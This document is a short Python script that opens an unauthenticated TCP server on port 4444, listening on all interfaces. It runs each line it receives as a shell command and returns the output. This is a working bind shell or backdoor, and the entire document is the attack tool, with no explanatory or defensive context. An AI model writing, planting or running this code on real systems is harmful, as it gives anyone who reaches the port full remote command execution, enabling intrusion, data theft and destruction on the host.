import socketserver, subprocess
class H(socketserver.StreamRequestHandler):
    def handle(self):
        for l in self.rfile:
            self.wfile.write(subprocess.getoutput(l.decode()).encode())
socketserver.TCPServer(('', 4444), H).serve_forever()
